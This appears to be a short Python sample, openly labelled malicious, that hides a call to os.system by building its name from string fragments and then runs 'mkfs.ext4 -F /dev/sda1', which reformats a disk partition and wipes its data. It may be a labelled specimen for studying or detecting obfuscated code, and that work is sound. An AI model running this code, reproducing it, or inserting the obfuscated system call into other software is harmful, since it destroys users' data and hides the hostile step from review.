# Malicious, obfuscated: picks os.system out of the os module's __dict__ by a computed key and wipes disks.
import os

fn = os.__dict__["".join(["sy", "st", "em"])]
fn("mkfs.ext4 -F /dev/sda1")
